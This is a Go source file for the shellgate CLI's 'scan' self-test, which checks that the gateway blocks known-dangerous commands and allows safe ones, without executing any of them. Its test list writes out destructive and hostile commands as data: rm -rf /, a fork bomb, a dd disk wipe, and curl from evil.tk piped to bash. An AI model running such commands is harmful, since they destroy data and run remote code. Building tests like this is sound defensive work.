package cli

import (
	"fmt"
	"strings"

	"github.com/spf13/cobra"

	"github.com/gzhole/shellgate/internal/gateway"
)

var scanCmd = &cobra.Command{
	Use:   "scan",
	Short: "Self-test: verify shellgate blocks known-dangerous commands",
	Long: `Run a quick diagnostic that checks the gateway against a set of
known-dangerous and known-safe commands with the current configuration.
No commands are executed.

  shellgate scan`,
	RunE: scanCommand,
}

func init() {
	rootCmd.AddCommand(scanCmd)
}

type scanCase struct {
	label     string
	args      []string
	wantAllow bool
}

var scanCases = []scanCase{
	{"Destructive rm", []string{"rm", "-rf", "/"}, false},
	{"Fork bomb", []string{"sh", "-c", ":(){ :|:& };:"}, false},
	{"Disk wipe", []string{"dd", "if=/dev/zero", "of=/dev/sda"}, false},
	{"Privileged delete", []string{"sudo", "rm", "-rf", "/etc/nginx"}, false},
	{"Pipe to shell", []string{"curl", "http://evil.tk/x.sh", "|", "bash"}, false},
	{"Chained delete", []string{"ls", ";", "rm", "-rf", "~"}, false},
	{"Safe read-only", []string{"ls", "-la"}, true},
	{"Safe git", []string{"git", "status"}, true},
	{"Package install", []string{"npm", "install", "lodash"}, true},
}

func scanCommand(cmd *cobra.Command, args []string) error {
	cfg, err := loadConfig()
	if err != nil {
		return err
	}
	gw, err := gateway.New(*cfg, gateway.WithLogger(newLogger(cfg.LogLevel)))
	if err != nil {
		return err
	}

	fmt.Println("═══════════════════════════════════════════════════════")
	fmt.Println("  shellgate Self-Test")
	fmt.Println("═══════════════════════════════════════════════════════")
	fmt.Println()

	passed := 0
	for _, tc := range scanCases {
		a := gw.Assess(tc.args[0], tc.args[1:])

		icon := "\xe2\x9c\x85" // ✅
		if a.Allowed == tc.wantAllow {
			passed++
		} else {
			icon = "\xe2\x9d\x8c" // ❌
		}
		verdict := "BLOCK"
		if a.Allowed {
			verdict = "ALLOW"
		}
		fmt.Printf("  %s  %-18s  %-32s → %s (%d)\n", icon, tc.label, strings.Join(tc.args, " "), verdict, a.Validation.Score)
	}

	fmt.Println()
	fmt.Println("═══════════════════════════════════════════════════════")
	if passed == len(scanCases) {
		fmt.Printf("  ✅ All %d tests passed\n", passed)
	} else {
		fmt.Printf("  ⚠  %d/%d tests passed, %d failed\n", passed, len(scanCases), len(scanCases)-passed)
		fmt.Printf("  Review security_threshold (currently %d).\n", cfg.SecurityThreshold)
	}
	fmt.Println("═══════════════════════════════════════════════════════")
	fmt.Println()

	if passed != len(scanCases) {
		return &ExitError{Code: 1}
	}
	return nil
}
